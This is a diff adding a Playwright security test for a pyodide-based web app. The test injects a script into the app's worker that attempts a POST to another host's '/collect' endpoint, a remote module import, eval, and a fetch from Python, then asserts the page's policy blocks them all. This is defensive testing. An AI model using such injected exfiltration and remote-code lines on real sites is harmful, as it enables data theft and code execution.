@@ -155,6 +155,64 @@ def test_what_the_site_was_not_built_with_is_blocked(playwright_instance, server
         witness.close()
 
 
+# Appended to the worker's module (its scope: pyodide): on a message, the worker
+# and the Python in it try to reach another host, and to run code from a string.
+ESCAPE = """
+addEventListener("message", async (ev) => {
+  if (!ev.data || ev.data.type !== "test:escape") return;
+  const other = ev.data.other, out = {};
+  try { await fetch(other + "/collect", { method: "POST", body: "text" }); out.fetch = "sent"; }
+  catch (e) { out.fetch = e.name; }
+  try { await import(other + "/x.js"); out.import = "ran"; } catch (e) { out.import = e.name; }
+  try { eval("1"); out.eval = "ran"; } catch (e) { out.eval = e.name; }
+  try { new Function("return 1")(); out.func = "ran"; } catch (e) { out.func = e.name; }
+  try {
+    await pyodide.runPythonAsync("from js import fetch\\nawait fetch(" + JSON.stringify(other + "/python") + ")");
+    out.python = "sent";
+  } catch (e) { out.python = /Failed to fetch/.test(String(e)) ? "no fetch" : String(e).slice(-300); }
+  postMessage({ type: "test:escaped", out });
+});
+"""
+
+
+def test_the_checker_worker_runs_under_the_pages_policy(playwright_instance, server):
+    """Python and the runtime run in the worker, under the page's policy too
+    (GitHub Pages sends no header that would give the worker one of its own):
+    neither the worker nor Python in it reaches another host or runs a string."""
+    import shutil
+    import tempfile
+
+    from helpers import CHROMIUM, CHROMIUM_ARGS
+
+    witness = Witness()
+    profile = tempfile.mkdtemp(prefix="gouji-chromium-")
+    context = playwright_instance.chromium.launch_persistent_context(
+        profile, executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
+    try:
+        page = context.pages[0]
+
+        def patched(route):
+            resp = route.fetch()
+            route.fulfill(response=resp, body=resp.text() + ESCAPE)
+
+        page.route("**/app/worker.js*", patched)  # only the worker's own file; the rest as served
+        page.goto(server)
+        wait_ready(page)
+        paste(page, SEEDS[3].read_text(encoding="utf-8"))
+        got = page.evaluate("""(other) => new Promise((done) => {
+          const worker = document.querySelector("[data-gouji-app]").gouji.worker;
+          worker.addEventListener("message", (ev) => { if (ev.data.type === "test:escaped") done(ev.data.out); });
+          worker.postMessage({ type: "test:escape", other });
+        })""", witness.origin)
+        assert got == {"fetch": "TypeError", "import": "TypeError", "eval": "EvalError", "func": "EvalError",
+                       "python": "no fetch"}, got
+        assert witness.hits == []
+    finally:
+        context.close()
+        shutil.rmtree(profile, ignore_errors=True)
+        witness.close()
+
+
 def test_the_policy_lists_exactly_each_pages_inline_scripts(site_root):
     """Hash by hash: a page's policy allows its own inline scripts and styles and no other."""
     import base64
